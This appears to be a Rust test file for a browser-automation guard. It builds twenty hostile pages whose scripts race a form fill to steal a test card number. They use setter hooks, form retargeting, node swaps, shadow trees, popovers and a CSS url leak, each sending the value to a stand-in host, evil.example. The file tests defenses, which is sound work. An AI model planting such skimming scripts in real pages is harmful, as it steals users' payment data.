//! Pages that race a fill: handlers that move the focus, swap nodes, retarget the form or pass the value on while the guard
//! sets it. Each page leaks the value in plain Chromium, filled by plain Playwright.

use std::time::Instant;

use crate::filling::sealed;
use crate::support::{Open, PATIENCE, Received, Server, launch, ref_of, settings, tab};
use browser_signals::Container;
use browser_signals::playwright::{ObservationTarget, Tab};
use playwright_rs::api::LaunchOptions;
use playwright_rs::protocol::{Page, Playwright};

const CARD: &str = "4000056655665556";

/// The form that the user agreed to, and one with another destination that a page may use.
const FORMS: &str = r#"<form id=f action="/pay" method="post"><input id=c aria-label="Card" name="card">
<button id=b>Pay</button></form>
<form id=evil action="http://evil.example:PORT/x" method="post"><input id=chat name="chat" aria-label="Chat"></form>"#;

/// What the page does, by name. `send` gives a text to another site; `poll` does something each frame.
const RACES: [(&str, &str); 20] = [
    ("a setter of the control's own", "Object.defineProperty(c,'value',{get(){return ''},set(v){send(v)}});
        c.addEventListener('input',()=>send(native.get.call(c)))"),
    ("a setter on the prototype", "Object.defineProperty(HTMLInputElement.prototype,'value',{get(){return ''},
        set(v){send(v)}});c.addEventListener('change',()=>0);poll(()=>{if(native.get.call(c))send(native.get.call(c))})"),
    ("focus goes elsewhere", "c.addEventListener('focus',()=>chat.focus());chat.addEventListener('input',()=>evil.submit());
        c.addEventListener('input',()=>{chat.value=c.value;evil.submit()})"),
    ("blur sends", "c.addEventListener('input',()=>{c.focus();c.blur()});c.addEventListener('blur',()=>{if(c.value)send(c.value)})"),
    ("before input, another control takes it", "c.addEventListener('beforeinput',e=>{if(e.data)send(e.data)});
        c.addEventListener('input',()=>send(c.value))"),
    ("input swaps the node", "c.addEventListener('input',()=>{const n=c.cloneNode();n.value=c.value;c.replaceWith(n);
        evil.append(n);evil.submit()})"),
    ("change retargets the form", "c.addEventListener('input',()=>{f.action='http://evil.example:PORT/x';f.submit()})"),
    ("change makes the form a GET to another site", "c.addEventListener('input',()=>{f.method='get';f.action='http://evil.example:PORT/x';f.submit()})"),
    ("the control changes its form", "c.addEventListener('input',()=>{c.setAttribute('form','evil');evil.submit()})"),
    ("another target and way at the submit", "f.addEventListener('submit',()=>{f.target='_self';f.action='http://evil.example:PORT/x'})"),
    ("the button's own way", "c.addEventListener('input',()=>{b.formAction='http://evil.example:PORT/x';b.click()})"),
    ("formdata adds and sends", "f.addEventListener('formdata',e=>send(e.formData.get('card')))"),
    ("an element of the page's in the form", "customElements.define('x-card',class extends HTMLElement{
        static formAssociated=true;constructor(){super();this.inside=this.attachInternals()}});
        const x=document.createElement('x-card');x.setAttribute('name','y');evil.append(x);
        c.addEventListener('input',()=>{x.inside.setFormValue(c.value);evil.submit()})"),
    ("moved into a shadow tree", "const host=document.createElement('div');document.body.append(host);
        const root=host.attachShadow({mode:'closed'});root.innerHTML='<form action=http://evil.example:PORT/x method=post></form>';
        c.addEventListener('input',()=>{const form=root.firstChild;form.append(c);form.submit()})"),
    ("an observer of the document", "new MutationObserver(()=>send(c.value)).observe(document,{attributes:true,subtree:true});
        c.addEventListener('input',()=>c.setAttribute('title','x'))"),
    ("each frame swaps the controls", "poll(()=>{if(c.value){const n=c.cloneNode();n.value=c.value;evil.append(n);evil.submit()}})"),
    ("the document is written anew", "c.addEventListener('input',()=>{const v=c.value;document.open();
        document.write('<p>x<script>fetch(`http://evil.example:PORT/x?'+v+'`,{mode:`no-cors`})<\\/script>');document.close()})"),
    ("a dialog on top takes the control", "const d=document.createElement('dialog');document.body.append(d);
        c.addEventListener('input',()=>{d.append(c);d.showModal();send(c.value)})"),
    ("a popover covers it and hands it on", "const p=document.createElement('div');p.popover='manual';document.body.append(p);
        p.style='width:100vw;height:100vh';c.addEventListener('input',()=>{p.showPopover();location='http://evil.example:PORT/x?'+c.value})"),
    ("inert, and a style that names the value", "c.addEventListener('input',()=>{f.inert=true;c.setAttribute('value',c.value);
        const s=document.createElement('style');s.textContent='[value^=\"4\"]{background:url(http://evil.example:PORT/x?'+c.value+')}';
        document.head.append(s)})"),
];

fn page(script: &str) -> String {
    format!(
        "<!doctype html><title>t</title>{FORMS}<script>
        const native=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value');
        const send=v=>fetch('http://evil.example:PORT/x?'+v,{{mode:'no-cors'}}).catch(()=>0);
        const poll=work=>{{const again=()=>{{work();requestAnimationFrame(again)}};again()}};
        {script}</script>"
    )
}

/// Whether the value reached another site, or the shop itself in an address.
fn leaked(requests: &[Received]) -> bool {
    requests.iter().any(|it| it.path.contains(CARD) || (it.host != "shop.example" && it.body.contains(CARD)))
}

/// Fills and submits as a script of Playwright's does, again and again until the value has leaked.
async fn plainly(page: &Page, server: &Server) -> bool {
    page.goto(server.url("shop.example", "/").as_str(), None).await.expect("the page opens");
    let trying = async {
        loop {
            // Errors are ignored, since the page may remove the control meanwhile. On a busy machine an action may also take longer than
            // its time, and is tried again.
            let _filled = page.locator("#c").fill(CARD, None).await;
            let _pressed = page.locator("#b").click(None).await;
        }
    };
    let began = Instant::now();
    let leaking = async {
        while !leaked(&server.requests()) && began.elapsed() < PATIENCE {
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        }
    };
    tokio::select! {
        () = trying => {}
        () = leaking => {}
    }
    leaked(&server.requests())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn in_plain_chromium_every_race_leaks_the_value() {
    let server = Server::start();
    let executable = settings(&server).executable.display().to_string();
    let playwright = Playwright::launch().await.expect("Playwright starts");
    let arguments = ["--no-sandbox", "--host-resolver-rules=MAP * 127.0.0.1"].map(str::to_owned).to_vec();
    let options = LaunchOptions::new().executable_path(executable).headless(true).args(arguments);
    let browser = playwright.chromium().launch_with_options(options).await.expect("Chromium starts");
    for (name, script) in RACES {
        // A separate server for each page, so that a leak is this page's.
        let server = Server::start();
        server.page("shop.example", "/", &page(script));
        server.page("shop.example", "/pay", "<title>Thanks</title>");
        let context = browser.new_context().await.expect("a context");
        let page = context.new_page().await.expect("a page");
        page.set_default_timeout(3_000.0).await;
        assert!(plainly(&page, &server).await, "{name}: a control that says nothing");
        context.close().await.expect("closed");
    }
    browser.close().await.expect("closed");
}

/// Fills and submits behind the bridge; whether it was filled.
async fn guarded(tab: &Tab, server: &Server, script: &str) -> bool {
    server.page("shop.example", "/", &page(script));
    tab.open(&server.url("shop.example", "/")).await.expect("the page opens");
    let text = tab.read(&Open).await.expect("text").text;
    let Some(line) = text.lines().find(|line| line.contains("\"Card\"") && line.contains("[ref=")) else {
        return false;
    };
    let Ok(seen) = tab.observe(ObservationTarget::Form(&ref_of(line, "\"Card\""))).await else {
        return false;
    };
    // A form that is covered before the fill cannot be observed.
    if seen.form.is_none() || seen.destination.known().is_none() {
        return false;
    }
    if !seen.controls.iter().any(|control| control.name == "card") {
        return false;
    }
    let filled = tab.fill(sealed(&seen, &[("card", CARD)])).await.is_ok();
    let Ok(text) = tab.read(&Open).await else { return filled };
    if let Some(line) = text.text.lines().find(|line| line.contains("\"Pay\"") && line.contains("[ref=")) {
        let button = ref_of(line, "\"Pay\"");
        if let Ok(decided) = tab.observe(ObservationTarget::Element(&button)).await {
            let _refused = tab.submit(&button, &decided).await;
        }
    }
    filled
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn behind_the_bridge_no_race_leaks_the_value() {
    let server = Server::start();
    let browser = launch(&server).await;
    let mut filled = 0;
    for (name, script) in RACES {
        server.page("shop.example", "/pay", "<title>Thanks</title>");
        let tab = tab(&browser, &server, Container::T2).await;
        let done = guarded(&tab, &server, script).await;
        filled += usize::from(done);
        // Requests that the page began earlier arrive before this one.
        let mark = format!("/mark-{}", name.replace(' ', "-"));
        server.page("shop.example", &mark, "<title>Mark</title>");
        let _left = tab.open(&server.url("shop.example", &mark)).await;
        tab.wait(300).await;
        assert!(!leaked(&server.requests()), "{name}");
        if !done && let Ok(html) = tab.html_for_canary_search().await {
            assert!(!html.contains(CARD), "{name}: all or none");
        }
        tab.close().await;
    }
    // Otherwise nothing would leak only because nothing is filled.
    assert!(filled >= 5, "only {filled} of the pages were filled at all");
    browser.close().await;
}
